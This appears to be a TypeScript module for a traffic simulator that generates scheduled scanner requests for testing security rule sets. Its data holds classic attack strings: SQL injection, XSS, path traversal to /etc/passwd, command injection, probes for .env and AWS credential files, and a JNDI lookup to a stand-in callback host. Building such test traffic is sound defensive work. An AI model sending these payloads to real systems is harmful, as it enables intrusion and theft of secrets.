import type { Step } from './step.ts';

/**
 * Background scanning: probes that any public address sees every day. The strings are the harmless classics that
 * every rule set tests itself with.
 */
interface Scan {
  readonly from: string;
  readonly agent: string;
  readonly startMs: number;
  readonly everyMs: number;
  readonly targets: readonly string[];
}

const SCANS: readonly Scan[] = [
  {
    from: '203.0.113.45',
    agent: 'Mozilla/5.0 (compatible; Nikto/2.5.0)',
    startMs: 6_000,
    everyMs: 1_500,
    targets: [
      '/.env',
      '/.git/config',
      '/wp-login.php',
      '/admin/config.php',
      '/phpmyadmin/',
      '/backup.sql',
      '/.aws/credentials',
    ],
  },
  {
    from: '198.51.100.23',
    agent: 'sqlmap/1.8.4#stable (https://sqlmap.org)',
    startMs: 14_000,
    everyMs: 1_200,
    targets: [
      "/services/search?q=permit'%20OR%20'1'='1",
      '/services/search?q=1%20UNION%20SELECT%20NULL,version()--%20-',
      "/services/search?q=permit'%20AND%20SLEEP(5)--%20",
      '/services/search?q=1;%20SELECT%20name%20FROM%20users',
      "/services/search?q=permit'%20OR%20'1'='1'%20--",
      '/services/search?q=1%20AND%201=1',
      "/services/search?q='%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables--",
    ],
  },
  {
    from: '203.0.113.180',
    agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
    startMs: 30_000,
    everyMs: 4_000,
    targets: [
      '/services/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
      '/services/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E',
      '/services/search?q=../../../../etc/passwd',
      '/services/search?q=$(id)',
    ],
  },
  {
    from: '2001:db8:66::9',
    agent: 'curl/8.5.0',
    startMs: 52_000,
    everyMs: 2_500,
    targets: [
      '/services/search?q=$%7Bjndi:ldap://callback.example.invalid/a%7D',
      '/cgi-bin/..%2f..%2f..%2fetc/passwd',
      '/services/search?q=;cat%20/etc/passwd',
    ],
  },
];

/** The scans of the day, begun again every `repeatMs` until `lengthMs`. */
export function scanners({
  lengthMs,
  repeatMs,
}: {
  readonly lengthMs: number;
  readonly repeatMs: number;
}): readonly Step[] {
  const steps: Step[] = [];
  for (let roundMs = 0; roundMs < lengthMs; roundMs += repeatMs) {
    for (const { from, agent, startMs, everyMs, targets } of SCANS) {
      targets.forEach((target, index) => {
        const headers = { 'user-agent': agent, accept: '*/*' };
        const atMs = roundMs + startMs + index * everyMs;
        steps.push({ kind: 'request', atMs, request: { from, method: 'GET', target, headers } });
      });
    }
  }
  return steps;
}
